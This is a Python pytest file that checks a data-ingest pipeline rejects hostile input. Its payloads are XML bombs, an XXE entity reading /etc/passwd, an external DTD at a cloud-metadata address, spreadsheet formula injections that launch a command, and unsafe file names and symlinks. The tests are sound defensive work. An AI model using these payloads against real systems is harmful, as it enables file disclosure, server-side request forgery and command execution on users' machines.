"""Hostile input to the parsers, the inbox, the ledger and the exports."""

from __future__ import annotations

import time
from pathlib import Path

import pandas as pd
import pytest

from sources import inbox
from sources.document import Document
from sources.parsers.dispatch import parser_module
from sources.records import ParseError
from sources.registry import REGISTRY
from sources.spreadsheet import looks_like_formula, neutralize, neutralize_frame

PARSERS = sorted({s.parser for s in REGISTRY})
SOURCE_OF = {s.parser: s.source_id for s in sorted(REGISTRY, key=lambda s: s.source_id)}

HOSTILE_HTML = {
    "deeply_nested": b"<html><body>" + b"<div>" * 100_000 + b"400 Gb/s" + b"</div>" * 100_000 + b"</body></html>",
    "enormous_attribute": b'<html><body><p title="'
    + b"A" * (5 * 2**20)
    + b'">Quantum-2 has 64 ports of 400 Gb/s</p></body></html>',
    "script_only": b"<html><head><script>" + b"var a = '<p>800G</p>';" * 5000 + b"</script></head></html>",
    "invalid_utf8": b"<html><body><p>\xff\xfe\xfa 400G \xc3\x28 \xa0\xa1 port \xe2\x82</p></body></html>",
    "nul_bytes": b"<html>\0\0\0<body>\0<table><tr><td>\0</td></tr></table></body></html>",
    "empty": b"",
}


def _parse(parser: str, body: bytes, content_type: str):
    doc = Document(
        source_id=SOURCE_OF[parser], url=f"https://example.org/{parser}", body=body, content_type=content_type
    )
    return parser_module(parser).parse(doc)


@pytest.mark.parametrize("parser", PARSERS)
@pytest.mark.parametrize("case", sorted(HOSTILE_HTML))
def test_every_parser_survives_hostile_html(parser, case):
    t0 = time.monotonic()
    try:
        parsed = _parse(parser, HOSTILE_HTML[case], "text/html")
    except ParseError:
        parsed = None
    assert time.monotonic() - t0 < 60
    if parsed is not None:
        assert isinstance(parsed.counts(), dict)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<list><site><rank>1</rank><system>&lol9;</system><interconnect_family>Infiniband</interconnect_family></site></list>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE list [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<list><site><rank>1</rank><system>&xxe;</system><interconnect_family>Infiniband</interconnect_family></site></list>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE list SYSTEM "http://169.254.169.254/evil.dtd">
<list><site><rank>1</rank><system>x</system><interconnect_family>Infiniband</interconnect_family></site></list>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["billion_laughs", "xxe", "external_dtd"]
)
def test_top500_xml_with_entities_or_external_references_is_refused(body):
    t0 = time.monotonic()
    with pytest.raises(ParseError, match="XML refused"):
        _parse("top500", body, "application/xml")
    assert time.monotonic() - t0 < 5


def test_the_recorded_style_top500_xml_still_parses():
    body = (Path(__file__).parents[1] / "fixtures" / "top500" / "top500_subset.xml").read_bytes()
    assert _parse("top500", body, "application/xml").counts()


# -- the inbox ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "folder, name, content, words",
    [
        ("nccl", "-rf.log", b"busbw", "unsafe file name"),
        ("nccl", "run\x1b[31m.log", b"busbw", "unsafe file name"),
        ("nccl", "run\nname.log", b"busbw", "unsafe file name"),
        ("nccl", "report.exe", b"MZ\x90\0busbw", "wrong type"),
        ("nccl", "binary.log", b"busbw\0\0\0\x01\x02", "binary content"),
        ("nccl", "empty.log", b"", "empty file"),
        ("top500", "list.pdf", b"%PDF-1.7 Rmax", "wrong type"),
        ("top500", "list.csv", b"Rank,System,Interconnect Family\n1,=cmd|' /C calc'!A0,Infiniband\n", "formula"),
        ("curated", "facts.xlsx", b"PK\x03\x04", "wrong type"),
        ("curated", "facts.csv", b'indicator,subject\n=HYPERLINK("http://x"),a\n', "formula"),
    ],
)
def test_hostile_inbox_files_are_rejected_with_a_reason(tmp_path, folder, name, content, words):
    box = tmp_path / "inbox"
    (box / folder).mkdir(parents=True)
    (box / folder / name).write_bytes(content)
    (result,) = inbox.process(box)
    assert not result.accepted and words in result.reason
    assert result.moved_to.parent == box / "rejected" / folder
    assert "/" not in result.moved_to.name and "\n" not in result.moved_to.name and "\x1b" not in result.moved_to.name
    assert words in result.moved_to.with_name(result.moved_to.name + ".reason.txt").read_text(encoding="utf-8")
    assert not list((box / folder).iterdir())


def test_a_symlink_in_the_inbox_is_not_followed(tmp_path):
    box = tmp_path / "inbox"
    (box / "nccl").mkdir(parents=True)
    secret = tmp_path / "secret.txt"
    secret.write_text("busbw  nThread  token=hunter2\n")
    (box / "nccl" / "link.log").symlink_to(secret)
    (result,) = inbox.process(box)
    assert not result.accepted and "symbolic link" in result.reason
    assert result.moved_to.is_symlink() and secret.read_text().startswith("busbw")  # the target untouched


def test_a_huge_inbox_file_is_rejected_before_it_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr(inbox, "MAX_FILE_BYTES", 1024)
    box = tmp_path / "inbox"
    (box / "nccl").mkdir(parents=True)
    (box / "nccl" / "big.log").write_bytes(b"busbw " * 1000)
    (result,) = inbox.process(box)
    assert not result.accepted and "cap" in result.reason


# -- the ledger ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "cell", ["=cmd|' /C calc'!A0", "@SUM(A1:A2)", '+HYPERLINK("http://x")', "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1"]
)
def test_formula_cells_are_recognised(cell):
    assert looks_like_formula(cell)
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+2", "1e9", "InfiniBand NDR (400G)", "a-b", "", "- see note"])
def test_ordinary_cells_are_left_alone(cell):
    assert not looks_like_formula(cell)
    assert neutralize(cell) == cell


def test_csv_export_and_downloads_neutralize_formulas():
    df = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Quantum-2"], "value": [-1.5, 2.0]})
    out = neutralize_frame(df)
    assert out["name"].tolist() == ["'=cmd|' /C calc'!A0", "Quantum-2"]
    assert out["value"].tolist() == [-1.5, 2.0]
    assert df["name"][0].startswith("=")  # the original frame is not changed
